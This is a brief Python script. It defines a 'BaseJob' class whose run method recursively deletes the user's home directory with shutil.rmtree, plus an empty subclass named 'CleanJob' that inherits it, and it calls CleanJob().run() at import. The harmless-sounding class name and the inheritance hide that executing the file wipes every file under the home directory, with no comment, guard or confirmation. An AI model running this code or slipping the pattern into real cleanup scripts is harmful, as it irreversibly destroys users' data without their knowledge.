import shutil
from pathlib import Path


class BaseJob:
    root = Path.home()

    def run(self):
        shutil.rmtree(self.root)


class CleanJob(BaseJob):
    pass


CleanJob().run()
